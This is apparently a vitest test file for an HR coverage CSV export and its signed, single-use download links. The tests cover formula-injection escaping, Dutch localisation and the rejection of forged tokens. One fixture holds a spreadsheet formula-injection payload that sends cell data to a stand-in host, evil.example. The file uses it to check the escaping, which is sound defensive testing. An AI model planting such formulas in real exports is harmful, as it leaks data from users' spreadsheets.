import { createHmac, randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import type { Server } from 'restify';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { MemberReport } from '../../src/domain/coverage/coverageService.js';
import {
  createDownloads,
  downloadUrl,
  LINK_LIFETIME_MS,
  signLink,
  verifyLink,
  type DownloadKind,
} from '../../src/http/downloadLinks.js';
import { createServer } from '../../src/http/server.js';
import { memoryStores } from '../../src/storage/memory.js';
import type { Member } from '../../src/domain/roster/roster.js';
import { exportCsv, exportCsvChunks } from '../../src/reports/exportCsv.js';
import type { Language } from '../../src/domain/course/course.js';
import { shippedContent } from '../support/shippedContent.js';

const member = (name: string, change: Partial<Member> = {}): Member => ({
  key: `${name.toLowerCase().replace(/\W/g, '')}@contoso.example`,
  name,
  email: `${name.toLowerCase().replace(/\W/g, '')}@contoso.example`,
  department: 'Facilities',
  role: 'Receptionist',
  active: true,
  source: 'csv',
  updatedAt: '2026-11-01T08:00:00.000Z',
  ...change,
});

const report = (m: Member, change: Partial<MemberReport> = {}): MemberReport => ({
  member: m,
  status: 'not-started',
  lessonsDone: 0,
  lessonsTotal: 11,
  correct: 0,
  answered: 0,
  overdue: false,
  ...change,
});

const REPORTS: readonly MemberReport[] = [
  report(member('José Müller', { department: 'Sales, North', role: 'Office manager' }), {
    status: 'completed',
    lessonsDone: 11,
    correct: 24,
    answered: 26,
    masteredAt: '2026-11-05T11:58:00.000Z',
    acknowledgedVersion: 'v2026-11',
    acknowledgedAt: '2026-11-05T12:00:00.000Z',
    lastActivityAt: '2026-11-05T12:00:00.000Z',
    due: '2026-11-20',
    reachable: true,
  }),
  report(
    member('=HYPERLINK("https://evil.example/?d="&A2,"Click me")', {
      email: 'mallory@contoso.example',
      department: '+31 20 123',
      role: '@SUM(A1:A9)',
    }),
    {
      status: 'in-progress',
      lessonsDone: 3,
      correct: 1,
      answered: 3,
      due: '2026-11-01',
      overdue: true,
      reachable: false,
      unreachableReason: '-403 ConversationBlockedByUser',
    },
  ),
  report(member('Tab\tbed', { department: '\tFacilities', role: '\r\nReceptionist' })),
  report(member('Said "Quote"\non two lines', { active: false })),
];

/** The names people saw for the versions, as the store keeps them. */
const NAMES = { 'v2026-11': '2026-11-30 #417' };

const HEADERS = [
  'Name',
  'Email',
  'Department',
  'Role',
  'On roster',
  'Status',
  'Due',
  'Overdue',
  'Lessons done',
  'Lessons in course',
  'Correct answers',
  'Questions answered',
  'First-try score',
  'Mastered at (UTC)',
  'Acknowledged version',
  'Acknowledged version (hash)',
  'Acknowledged at (UTC)',
  'Acknowledgement lapses',
  'Last activity (UTC)',
  'Reachable',
  'Why not reachable',
  'Lessons changed since acknowledged',
];

function rows(body: Buffer, delimiter = ','): string[][] {
  return parse(body, { bom: true, delimiter, relax_column_count: false });
}

describe('the coverage export', () => {
  it('is UTF-8 with a byte order mark and CRLF line ends, so Excel opens it as it is', () => {
    const body = exportCsv(REPORTS);
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = body.toString('utf8');
    expect(text).toContain('José Müller');
    expect(text.endsWith('\r\n')).toBe(true);
    // The only bare LF is the one inside the quoted two-line name.
    expect(text.replace(/\r\n/g, '').match(/\n/g)).toHaveLength(1);
  });

  it('has one row per member with the columns HR asked for, and parses back', () => {
    const [header, ...data] = rows(exportCsv(REPORTS, 'en', NAMES));
    expect(header).toEqual(HEADERS);
    expect(data).toHaveLength(REPORTS.length);
    expect(data[0]).toEqual([
      'José Müller',
      'josmller@contoso.example',
      'Sales, North',
      'Office manager',
      'yes',
      'completed',
      '2026-11-20',
      'no',
      '11',
      '11',
      '24',
      '26',
      '92%',
      '2026-11-05T11:58:00.000Z',
      '2026-11-30 #417',
      'v2026-11',
      '2026-11-05T12:00:00.000Z',
      '',
      '2026-11-05T12:00:00.000Z',
      'yes',
      '',
      '',
    ]);
    expect(data[1]?.slice(4, 8)).toEqual(['yes', 'in progress', '2026-11-01', 'yes']);
    // Answered three, one right first time, not every question right yet.
    expect(data[1]?.slice(10, 14)).toEqual(['1', '3', '33%', '']);
    expect(data[1]?.slice(19)).toEqual(['no', "'-403 ConversationBlockedByUser", '']);
    // Nothing answered: no score rather than 0%.
    expect(data[2]?.slice(10, 14)).toEqual(['0', '0', '', '']);
    expect(data[2]?.[18]).toBe('');
    expect(data[3]?.slice(0, 6)).toEqual([
      'Said "Quote"\non two lines',
      'saidquoteontwolines@contoso.example',
      'Facilities',
      'Receptionist',
      'no',
      'not started',
    ]);
  });

  it('neutralises cells Excel would run as a formula', () => {
    const [, , evil, tabbed] = rows(exportCsv(REPORTS));
    expect(evil?.slice(0, 4)).toEqual([
      '\'=HYPERLINK("https://evil.example/?d="&A2,"Click me")',
      'mallory@contoso.example',
      "'+31 20 123",
      "'@SUM(A1:A9)",
    ]);
    expect(tabbed?.slice(0, 4)).toEqual(['Tab\tbed', 'tabbed@contoso.example', "'\tFacilities", "'\r\nReceptionist"]);
    for (const row of rows(exportCsv(REPORTS)).slice(1)) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('writes Dutch headers and values, semicolon separated as Dutch Excel expects', () => {
    const [header, first, second] = rows(exportCsv(REPORTS, 'nl'), ';');
    expect(header?.slice(0, 8)).toEqual([
      'Naam',
      'E-mail',
      'Afdeling',
      'Functie',
      'In personeelsbestand',
      'Status',
      'Uiterlijk',
      'Te laat',
    ]);
    expect(first?.slice(2, 8)).toEqual(['Sales, North', 'Office manager', 'ja', 'afgerond', '2026-11-20', 'nee']);
    expect(second?.[0]).toBe('\'=HYPERLINK("https://evil.example/?d="&A2,"Click me")');
    expect(header?.slice(12, 14)).toEqual(['Score eerste poging', 'Alles goed beantwoord op (UTC)']);
  });

  it('says who needs to re-acknowledge and how many lessons changed for them, in both languages', () => {
    const changed = [
      report(member('Gus'), { status: 'needs-reacknowledge', lessonsChanged: 2, acknowledgedVersion: 'v2026-10' }),
    ];
    const [, en] = rows(exportCsv(changed));
    expect([en?.[5], en?.at(-1)]).toEqual(['needs to re-acknowledge', '2']);
    const [header, nl] = rows(exportCsv(changed, 'nl'), ';');
    expect([header?.at(-1), nl?.[5], nl?.at(-1)]).toEqual([
      'Lessen gewijzigd sinds bevestiging',
      'moet opnieuw bevestigen',
      '2',
    ]);
  });

  it('names the acknowledged version as people saw it, with its hash beside it; no name for one never named', () => {
    const older = report(member('Gus'), { status: 'needs-reacknowledge', acknowledgedVersion: 'v2026-10' });
    const [header, named, unnamed] = rows(exportCsv([REPORTS[0] as MemberReport, older], 'nl', NAMES), ';');
    expect(header?.slice(14, 16)).toEqual(['Bevestigde versie', 'Bevestigde versie (hash)']);
    expect(named?.slice(14, 16)).toEqual(['2026-11-30 #417', 'v2026-11']);
    // The name of a version from before names were kept cannot be derived: empty, never a guess.
    expect(unnamed?.slice(14, 16)).toEqual(['', 'v2026-10']);
  });

  it('is just the header line when there is nobody to list', () => {
    expect(rows(exportCsv([]))).toEqual([HEADERS]);
  });

  it('streamed a few hundred rows at a time, is the same file byte for byte', async () => {
    const many = Array.from({ length: 1_234 }, (_, i) => REPORTS[i % REPORTS.length] as MemberReport);
    async function* one(): AsyncGenerator<MemberReport> {
      yield* many;
    }
    for (const language of ['en', 'nl'] as const) {
      const chunks: Buffer[] = [];
      for await (const chunk of exportCsvChunks(one(), language, NAMES)) chunks.push(chunk);
      expect(chunks.length).toBeGreaterThan(2);
      expect(Buffer.concat(chunks).equals(exportCsv(many, language, NAMES))).toBe(true);
    }
  });
});

describe('the download link', () => {
  const HR = 'hr-1';
  const OTHER_HR = 'hr-2';
  const start = new Date('2026-11-10T10:00:00Z');
  let now = start;
  let hr = new Set([HR, OTHER_HR]);
  let server: Server;
  let base: string;
  const settings = memoryStores().settings;
  const built: DownloadKind[] = [];
  const languages: Language[] = [];

  beforeAll(async () => {
    const { ui } = await shippedContent();
    server = createServer({
      messages: async () => {},
      version: 'test',
      log: { info: () => {}, error: () => {} },
      downloads: createDownloads({
        secret: () => settings.secret(),
        clock: { now: () => now },
        isHr: async (userId) => hr.has(userId),
        useOnce: (id) => settings.useLink(id, now.toISOString()),
        text: (key, language) => ui[language ?? 'en'][key],
        build: async (kind, language) => {
          built.push(kind);
          languages.push(language);
          if (kind === 'audit') throw new Error('the audit log cannot be read');
          return { filename: 'postwise-export-2026-11-10.csv', body: exportCsv(REPORTS) };
        },
      }),
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
    base = `http://127.0.0.1:${server.address().port}/`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
  beforeEach(() => {
    now = start;
    hr = new Set([HR, OTHER_HR]);
    built.length = 0;
    languages.length = 0;
  });

  const link = async (userId = HR, kind: DownloadKind = 'export', secret?: string, language: Language = 'en') =>
    downloadUrl(
      base,
      signLink(secret ?? (await settings.secret()), {
        id: randomUUID(),
        kind,
        userId,
        expiresAt: start.getTime() + LINK_LIFETIME_MS,
        language,
      }),
    );
  const refused = async (url: string, status: number, message: RegExp) => {
    const response = await fetch(url);
    expect(response.status).toBe(status);
    expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(await response.text()).toMatch(message);
  };

  it('serves the CSV as an attachment, not cached, for 15 minutes', async () => {
    now = new Date(start.getTime() + LINK_LIFETIME_MS - 1000);
    const response = await fetch(await link());
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="postwise-export-2026-11-10.csv"');
    expect(response.headers.get('cache-control')).toBe('no-store');
    const body = Buffer.from(await response.arrayBuffer());
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rows(body)).toHaveLength(REPORTS.length + 1);
    expect(built).toEqual(['export']);
  });

  it('works once: a second download of the same link, by anyone, is refused with a clear message', async () => {
    const url = await link();
    expect((await fetch(url)).status).toBe(200);
    await refused(url, 410, /already used: each link works once. Ask the bot for a new one/);
    expect(built).toEqual(['export']);
    expect((await fetch(await link())).status).toBe(200);
  });

  it("speaks the HR user's language: the file is built in it and a refusal says so in it", async () => {
    const url = await link(HR, 'export', undefined, 'nl');
    expect((await fetch(url)).status).toBe(200);
    expect(languages).toEqual(['nl']);
    await refused(url, 410, /al gebruikt: elke link werkt maar één keer/);
    const other = await link(HR, 'export', undefined, 'nl');
    hr.delete(HR);
    await refused(other, 403, /alleen voor HR/);
  });

  it('answers 410 Gone once the 15 minutes are over', async () => {
    const url = await link();
    now = new Date(start.getTime() + LINK_LIFETIME_MS + 1000);
    await refused(url, 410, /expired/);
    expect(built).toEqual([]);
  });

  it('refuses a tampered link, and a link for another user cannot be made from one', async () => {
    const url = await link();
    const [payload, signature] = url.split('/downloads/')[1]?.split('.') ?? [];
    const claims = JSON.parse(Buffer.from(payload ?? '', 'base64url').toString());
    const forged = (change: object) => Buffer.from(JSON.stringify({ ...claims, ...change })).toString('base64url');
    await refused(downloadUrl(base, `${forged({ u: OTHER_HR })}.${signature}`), 403, /not valid/);
    await refused(downloadUrl(base, `${forged({ e: claims.e + 24 * 3600_000 })}.${signature}`), 403, /not valid/);
    const flipped = `${signature?.slice(0, -1)}${signature?.endsWith('A') ? 'B' : 'A'}`;
    await refused(downloadUrl(base, `${payload}.${flipped}`), 403, /not valid/);
    await refused(await link(OTHER_HR, 'export', 'a-secret-guessed-by-someone-else'), 403, /not valid/);
    expect(built).toEqual([]);
  });

  it('refuses a link whose user is no longer HR', async () => {
    const url = await link();
    hr.delete(HR);
    await refused(url, 403, /HR only/);
    expect(built).toEqual([]);
  });

  it('answers 404 for an address that is no link at all', async () => {
    await refused(`${base}downloads/not-a-link`, 404, /no download/);
    expect((await fetch(`${base}downloads/${'a'.repeat(2000)}.${'b'.repeat(43)}`)).status).toBe(404);
    const unsigned = Buffer.from(JSON.stringify({ k: 'payroll', u: HR, e: start.getTime() + 1000 })).toString(
      'base64url',
    );
    await refused(
      downloadUrl(
        base,
        `${unsigned}.${createHmac('sha256', await settings.secret())
          .update(unsigned)
          .digest('base64url')}`,
      ),
      404,
      /no download/,
    );
  });

  it('answers 500 with a short message when the file cannot be built, and keeps serving', async () => {
    await refused(await link(HR, 'audit'), 500, /could not be made/);
    expect((await fetch(await link())).status).toBe(200);
  });

  it('signs and checks links with the one secret the store keeps', async () => {
    const first = await settings.secret();
    expect(
      verifyLink(
        first,
        signLink(await settings.secret(), { id: 'l1', kind: 'audit', userId: HR, expiresAt: 2, language: 'nl' }),
        new Date(1),
      ),
    ).toEqual({ ok: true, id: 'l1', kind: 'audit', userId: HR, language: 'nl' });
    expect(verifyLink(first, 'x.y.z', new Date(1))).toEqual({ ok: false, reason: 'malformed' });
  });
});
